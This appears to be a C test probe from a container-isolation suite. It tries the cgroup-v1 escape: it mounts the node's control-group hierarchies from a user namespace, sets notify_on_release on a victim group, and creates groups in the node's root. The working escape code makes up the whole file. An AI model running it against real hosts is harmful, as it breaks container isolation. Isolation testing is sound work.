/* node-groups: root of a small machine mounts the node's hierarchies of control groups, version 1, and writes to a group of the node's, tare-attack-victim. */
#include "attack.h"

static void try(const char *hierarchy, const char *file, const char *text) {
    char path[200], what[300];
    snprintf(path, sizeof path, "/mnt/%s", file);
    snprintf(what, sizeof what, "%s of the node's %s hierarchy written to", file, hierarchy);
    say(write_to(path, text), what);
}

int main(void) {
    mkdir("/mnt", 0755);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
        held("a user namespace: %s", strerror(errno));
        return 0;
    }
    write_to("/proc/self/setgroups", "deny");
    write_to("/proc/self/uid_map", "0 0 1");
    write_to("/proc/self/gid_map", "0 0 1");
    for (const char **name = (const char *[]){"cpuset", "devices", "freezer", "memory", "pids", "cpu", "blkio", "none,name=systemd", NULL}; *name; name++) {
        if (mount("none", "/mnt", "cgroup", 0, *name)) {
            held("the node's %s hierarchy: %s", *name, strerror(errno));
            continue;
        }
        if (access("/mnt/tare-attack-victim", F_OK) == 0) {
            try(*name, "tare-attack-victim/notify_on_release", "1");
            try(*name, "tare-attack-victim/cgroup.procs", "0");
            say(mkdir("/mnt/tare-attack-made", 0755) == 0, "a group in the node's own root group");
        } else held("the node's groups in %s are not seen", *name);
        umount2("/mnt", MNT_DETACH);
    }
    return 0;
}
